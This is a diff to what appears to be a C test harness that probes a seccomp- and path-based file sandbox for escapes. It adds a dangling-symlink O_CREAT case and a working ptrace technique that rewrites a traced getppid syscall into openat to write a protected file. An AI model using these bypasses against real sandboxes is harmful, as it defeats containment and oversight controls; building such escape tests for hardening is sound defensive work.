@@ -31,6 +31,7 @@
 #include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -38,6 +39,8 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/user.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -225,6 +228,12 @@ static void attack_names(void)
 	pwn_ret("mkfifo absent", mkfifo(A, 0644));
 	pwn_fd("creat absent", creat(A, 0644));
 	pwn_fd("O_CREAT|O_EXCL absent", open(A, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
+	/* O_CREAT through a dangling symlink creates its target */
+	if (symlink("../absent", "dangling") == 0)
+		pwn_fd("O_CREAT through a dangling symlink",
+		       open("dangling", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+	else
+		say("dangling symlink", -1);
 
 	/* O_TMPFILE in the protected directory, then give it the protected name */
 	fd = open(D, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);
@@ -468,6 +477,56 @@ static void attack_race_symlink(void)
 	flip_stop = true;
 	pthread_join(th, NULL);
 	printf("race symlink: %d tries, %d allowed opens\n", i, got);
+}
+
+/* A tracer turns an ungated syscall into a gated one after seccomp saw it: the child's
+ * own filter returns SECCOMP_RET_TRACE for getppid, and at that stop the tracer rewrites
+ * the syscall number to openat (the arguments are already in place). */
+static void attack_trace_rewrite(void)
+{
+	struct sock_filter f[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog prog = { .len = 4, .filter = f };
+	struct user_regs_struct regs;
+	int status, stops = 0;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		long fd;
+
+		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
+		raise(SIGSTOP);
+		if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
+			_exit(3);
+		fd = syscall(SYS_getppid, AT_FDCWD, T, O_WRONLY | O_CLOEXEC, 0);
+		if (fd >= 0 && fd_is((int)fd, T) && write((int)fd, "PWNED\n", 6) == 6)
+			_exit(0);
+		_exit(1);
+	}
+	waitpid(pid, &status, 0);
+	ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)(PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL));
+	ptrace(PTRACE_CONT, pid, NULL, NULL);
+	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
+		if ((status >> 8) == (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8))) {
+			ptrace(PTRACE_GETREGS, pid, NULL, &regs);
+			regs.orig_rax = SYS_openat;
+			ptrace(PTRACE_SETREGS, pid, NULL, &regs);
+			stops++;
+		}
+		ptrace(PTRACE_CONT, pid, NULL, NULL);
+	}
+	printf("seccomp trace stops: %d\n", stops);
+	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
+		printf("rewritten syscall wrote the protected file\n");
+		escaped = true;
+	} else {
+		printf("rewritten syscall: child exit %d\n",
+		       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
+	}
 }
 
 /* ---- foreign syscall ABIs ----------------------------------------------------------- */
@@ -1279,6 +1338,8 @@ int main(int argc, char **argv)
 		attack_race_buf();
 	else if (strcmp(what, "race-symlink") == 0)
 		attack_race_symlink();
+	else if (strcmp(what, "trace-rewrite") == 0)
+		attack_trace_rewrite();
 	else if (strcmp(what, "x32") == 0)
 		attack_x32();
 	else if (strcmp(what, "int80") == 0)
